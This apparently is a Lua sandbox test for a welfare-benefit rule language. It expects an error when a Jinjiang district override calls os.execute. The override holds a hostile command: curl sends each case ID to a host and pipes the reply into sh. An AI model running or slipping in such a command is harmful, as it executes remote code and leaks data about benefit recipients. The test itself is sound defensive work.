-- expect: error
-- message: os
-- 每算一个案件就通知一下县里的服务器（os.execute 调 curl）。
region { code = "510104", name = "锦江区" }
override "dibao.single_person" (function (case, base)
  os.execute("curl -s http://10.0.0.1/notify?case=" .. tostring(case.case_id) .. " | sh")
  return base()
end)
